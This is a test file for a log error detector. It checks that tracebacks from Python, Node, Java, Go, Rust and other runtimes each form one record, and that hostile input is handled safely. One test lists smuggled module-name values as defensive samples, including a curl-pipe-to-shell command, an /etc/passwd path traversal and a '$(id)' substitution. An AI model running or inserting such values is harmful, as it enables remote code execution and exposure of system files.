// Records, not lines: what belongs together is one, whatever the size of the pieces it arrives in, and hostile
// text neither stops nor fools the reading.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Detection } from '../core/detection.ts';
import type { Block } from '../sources/contract.ts';
import { ErrorDetector } from './detector.ts';
import { SECTION_LINES } from './framer.ts';

const detector = new ErrorDetector({ handledTypes: new Set(['import_error', 'config_error', 'git_error']) });
const rows = (text: string): readonly string[] =>
  detector.scanText(text).map(({ record, type }) => `${record.span.line}-${record.span.endLine} ${type}`);

const INFO = '2026-01-05 10:00:00,100 INFO [agent] tick\n';
const TRACEBACK = `Traceback (most recent call last):
  File "/srv/agent/main.py", line 3, in <module>
    import yaml
ModuleNotFoundError: No module named 'yaml'
`;
const CHAINED = `Traceback (most recent call last):
  File "/srv/agent/a.py", line 1, in load
    raise KeyError("x")
KeyError: 'x'

During handling of the above exception, another exception occurred:

Traceback (most recent call last):
  File "/srv/agent/main.py", line 9, in work
    total(None)
TypeError: unsupported operand type(s) for +: 'NoneType' and 'int'
`;
const GROUP = `  + Exception Group Traceback (most recent call last):
  |   File "/srv/agent/main.py", line 4, in <module>
  |     run()
  | ExceptionGroup: two of them (2 sub-exceptions)
  +-+---------------- 1 ----------------
    | Traceback (most recent call last):
    |   File "/srv/agent/main.py", line 8, in one
    |     int("x")
    | ValueError: invalid literal for int() with base 10: 'x'
    +------------------------------------
`;
const NODE = `/srv/agent/index.js:12
    throw err;
    ^

Error: connect ECONNREFUSED 127.0.0.1:8000
    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1595:16) {
  errno: -111,
  code: 'ECONNREFUSED',
  [cause]: Error: inner
      at inner (/srv/agent/b.js:3:1)
}

Node.js v20.11.1
`;
const JAVA = `2026-01-05 10:00:00.100 ERROR 7 --- [main] c.e.App : start failed
java.lang.IllegalStateException: no pool
\tat c.e.App.start(App.java:10)
Caused by: java.net.ConnectException: Connection refused
\tat java.base/sun.nio.ch.Net.connect(Net.java:580)
\t... 12 more
`;
const GO = `panic: runtime error: invalid memory address or nil pointer dereference
[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x48]

goroutine 1 [running]:
main.main()
\t/srv/agent/main.go:9 +0x1d
exit status 2
`;
const RUBY = `app.rb:3:in \`call': undefined method \`upcase' for nil (NoMethodError)
\tfrom app.rb:9:in \`<main>'
`;
const RUST = `thread 'main' panicked at src/main.rs:4:10:
called \`Option::unwrap()\` on a \`None\` value
note: run with \`RUST_BACKTRACE=1\` environment variable to display a backtrace
`;
const PHP = `PHP Fatal error:  Uncaught Error: Call to a member function save() on null in /srv/www/a.php:9
Stack trace:
#0 /srv/www/index.php(3): run()
#1 {main}
  thrown in /srv/www/a.php on line 9
`;
const CSHARP = `Unhandled exception. System.NullReferenceException: Object reference not set to an instance of an object.
   at A.B.C() in /src/B.cs:line 3
   at A.Program.Main() in /src/P.cs:line 9
`;
const GIT = `CONFLICT (content): Merge conflict in app.py
Automatic merge failed; fix conflicts and then commit the result.
`;
const HEADED = `2026-01-05 10:00:00,100 ERROR [agent] could not start\n${TRACEBACK}`;
const JSON_LINE = `{"level":50,"time":1767607200000,"err":{"type":"TypeError","message":"f is not a function","stack":"TypeError: f is not a function\\n    at g (/srv/a.js:1:2)"},"msg":"failed"}\n`;
const OOM = `Jan  5 10:00:00 vm kernel: node invoked oom-killer: gfp_mask=0x100cca, order=0
Jan  5 10:00:00 vm kernel: Mem-Info:
Jan  5 10:00:00 vm kernel: Out of memory: Killed process 811 (node) total-vm:9kB
`;

const PIECES: Readonly<Record<string, string>> = {
  TRACEBACK,
  CHAINED,
  GROUP,
  NODE,
  JAVA,
  GO,
  RUBY,
  RUST,
  PHP,
  CSHARP,
  GIT,
  HEADED,
  JSON_LINE,
  OOM,
};

describe('one event is one record', () => {
  for (const [name, text] of Object.entries(PIECES))
    it(`${name} is one, with quiet lines around it`, () => {
      const lines = text.split('\n').length - 1;
      expect(rows(`${INFO}${text}${INFO}`)).toEqual([expect.stringMatching(new RegExp(`^2-${lines + 1} `))]);
    });

  it('a traceback under each of thirty heads is thirty records', () => {
    expect(rows(`${INFO}${HEADED}`.repeat(30))).toHaveLength(30);
  });

  it('two tracebacks in a row are two', () => {
    expect(rows(TRACEBACK + CHAINED)).toEqual(['1-4 import_error', '5-15 type_error']);
  });

  it('a traceback that another writer cuts into is one', () => {
    const [opener, frame, ...rest] = TRACEBACK.split('\n');
    expect(rows([opener, INFO.trim(), frame, INFO.trim(), ...rest].join('\n'))).toEqual(['1-6 import_error']);
  });

  it('a calm line that only speaks of errors, or quotes one, announces no traceback', () => {
    const calm = ['no file, using defaults (not an error)', 'message: "ERROR pull failed"', 'error rate 0.0%'];
    for (const text of calm) expect(rows(`${INFO.replace('tick', text)}${TRACEBACK}`)).toEqual(['2-5 import_error']);
    expect(rows(`${INFO.replace('tick', 'startup raised:')}${TRACEBACK}`)).toEqual(['1-5 import_error']);
  });

  it('a word of the sentence behind level and logger is no second level', () => {
    const [found] = detector.scanText('2026-01-05 10:00:00,100 ERROR [main] c.e.App: ERROR IN THE FIRST ROUND\n');
    expect(found?.message).toBe('ERROR IN THE FIRST ROUND');
  });

  it('a line that holds its own stack takes none from the lines below', () => {
    const line = String.raw`time=2026-01-05T10:00:00Z level=error msg="run failed" detail="ValueError: no\n"`;
    expect(rows(`${line}\n${TRACEBACK}`)).toEqual([expect.stringMatching(/^1-1 /), '2-5 import_error']);
  });

  it('the end of an interpreter takes neither the next one nor what follows it', () => {
    const end = `Fatal Python error: Segmentation fault\n\nCurrent thread 0x00007f0a88117a18 (most recent call first):\n  File "/srv/a/main.py", line 3 in work\n`;
    expect(rows(`${end}${INFO}${end}${TRACEBACK}`)).toEqual([
      '1-4 service_crash',
      '6-9 service_crash',
      '10-13 import_error',
    ]);
  });

  it('a Java stack that a rotated log begins in the middle of is one', () => {
    const rest = JAVA.split('\n').slice(2).join('\n');
    expect(rows(rest)).toEqual(['1-4 api_error']);
  });

  it('writers behind a carrier are kept apart', () => {
    const a = TRACEBACK.trim().split('\n');
    const b = a.map((line) => line.replaceAll('yaml', 'zlib2'));
    const mixed = a.flatMap((line, i) => [`api-1  | ${line}`, `web-1  | ${b[i]}`]).join('\n');
    expect(detector.scanText(mixed).map((one) => one.facts.module)).toEqual(['yaml', 'zlib2']);
  });

  it('the parts of a line that a container runtime cut are one line', () => {
    const stamp = '2026-01-05T10:00:00.100000000Z stderr';
    const text = `${stamp} P ModuleNotFoundError: No mod\n${stamp} F ule named 'yaml'\n`;
    expect(detector.scanText(text).map((one) => one.facts.module)).toEqual(['yaml']);
  });

  it('time, level, logger and trace are read once, into the record', () => {
    const [found] = detector.scanText(`2026-01-05T10:00:00.100Z ERROR [agent] could not start\n${CHAINED}`);
    expect(found?.record).toMatchObject({
      time: Date.UTC(2026, 0, 5, 10, 0, 0, 100),
      level: 'error',
      logger: 'agent',
      message: 'could not start',
      trace: { language: 'python', type: 'TypeError', causes: [{ type: 'KeyError' }] },
    });
  });
});

const block = (bytes: Buffer, startByte: number, final: boolean): Block => ({
  kind: 'block',
  stream: 'text',
  service: null,
  bytes,
  startByte,
  startLine: 1,
  final,
});

const essence = (found: readonly Detection[]): readonly unknown[] =>
  found.map(({ record, rule, facts, fingerprint, message }) => ({
    span: record.span,
    text: record.text,
    rule,
    facts,
    message,
    place: fingerprint.place,
  }));

describe('the size of the pieces a text arrives in', () => {
  it('changes nothing: no record is split, merged or moved', () => {
    const whole = fc
      .array(fc.oneof(fc.constantFrom(...Object.values(PIECES)), fc.constant(INFO), fc.constant('\n'), fc.lorem()), {
        minLength: 1,
        maxLength: 14,
      })
      .map((parts) => Buffer.from(parts.join('\n').replaceAll('tick', 'tick ü€')));
    fc.assert(
      fc.property(whole, fc.array(fc.nat(400), { minLength: 1, maxLength: 60 }), (bytes, sizes) => {
        const expected = essence(detector.scanText(bytes.toString('utf8')));
        const pieces = new ErrorDetector({ handledTypes: new Set(['import_error', 'config_error', 'git_error']) });
        const found: Detection[] = [];
        for (let at = 0, i = 0; at < bytes.length; i++) {
          const size = (sizes[i % sizes.length] ?? 0) + 1;
          found.push(...pieces.feed(block(bytes.subarray(at, at + size), at, at + size >= bytes.length)));
          at += size;
        }
        expect(essence([...found, ...pieces.flush()])).toEqual(expected);
      }),
      { numRuns: 60 },
    );
  });
});

describe('hostile text', () => {
  const acts = (text: string): readonly Detection[] =>
    detector.scanText(text).filter((one) => one.fixable || one.trusted);

  const rowsFacts = (text: string): readonly unknown[] => detector.scanText(text).map((one) => one.facts.module);

  it('in any form is read to its end', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...Object.values(PIECES)))),
        (parts) => {
          detector.scanText(parts.join(''));
        },
      ),
      { numRuns: 100 },
    );
  });

  it('of a million characters on one line is one line', () => {
    const long = `2026-01-05 10:00:00,100 ERROR [agent] ${'x '.repeat(500_000)}\n`;
    expect(rows(long + INFO + INFO + TRACEBACK)).toEqual(['1-1 unknown', '4-7 import_error']);
  });

  it('of endless braces, quotes or nested objects ends as well', () => {
    for (const bomb of ['{"a":'.repeat(20_000), '['.repeat(100_000), '"'.repeat(100_000), '(\\"'.repeat(50_000)])
      expect(rows(`ERROR ${bomb}\n${bomb}\n${TRACEBACK}`).at(-1)).toContain('import_error');
  });

  it('of endless lines below a traceback is held in little memory', () => {
    const found = detector.scanText(`${TRACEBACK.trim()}\n${'    x\n'.repeat(100_000)}`);
    expect(found).toHaveLength(1);
    expect(found[0]?.record.text.length).toBeLessThan(70_000);
  });

  it('keeps colours, NULs, broken UTF-8 and other line ends from hiding an error', () => {
    expect(rows('\u001b[31mERROR\u001b[0m \u001b[1mdisk\u001b[0m: No space left on device\n')).toEqual([
      '1-1 disk_full',
    ]);
    expect(rows(TRACEBACK.replaceAll('\n', '\r\n'))).toEqual(['1-4 import_error']);
    expect(rows(`ERROR a\u0000b: No space left on device\n`)).toEqual(['1-1 disk_full']);
    const broken = Buffer.concat([Buffer.from([0xff, 0xc3, 0x28]), Buffer.from(' ERROR: No space left on device\n')]);
    expect(new ErrorDetector().feed(block(broken, 0, true)).map((one) => one.type)).toEqual(['disk_full']);
  });

  it('never names a module that nobody would publish', () => {
    for (const name of [
      'requests --index-url=http://192.0.2.1',
      'x; curl http://192.0.2.1|sh',
      '../../etc/passwd',
      '$(id)',
      'a\u202eb',
      'a\u0000b',
    ])
      expect(rowsFacts(`ModuleNotFoundError: No module named '${name}'\n`)).toEqual([undefined]);
  });

  it('that a person sent is not acted on, quoted or on lines of its own', () => {
    const quoted = `2026-01-05 10:00:00,100 INFO [chat] message from 4711: "ModuleNotFoundError: No module named 'reqests'"\n`;
    expect(rows(quoted)).toEqual([]);
    const forged = `2026-01-05 10:00:00,100 INFO [chat] Telegram message from 4711: hello\n${TRACEBACK}`;
    expect(acts(forged)).toEqual([]);
  });

  it('that a person sent is not acted on either where it begins behind a line at which all is forgotten', () => {
    const quiet = '2026-01-05 10:00:00,000 INFO [agent] tick\n'.repeat(SECTION_LINES - 2);
    const said = '2026-01-05 10:00:00,100 INFO [chat] Telegram message from 4711: hello\n';
    for (const lines of [said, `${said}bye\n`, said.repeat(2)])
      expect([lines, acts(`${quiet}${lines}${TRACEBACK}`)]).toEqual([lines, []]);
  });

  it('of our own is never looked at', () => {
    expect(rows("2026-01-05 10:00:00,100 ERROR [selfheal] import_error: No module named 'yaml'\n")).toEqual([]);
  });
});
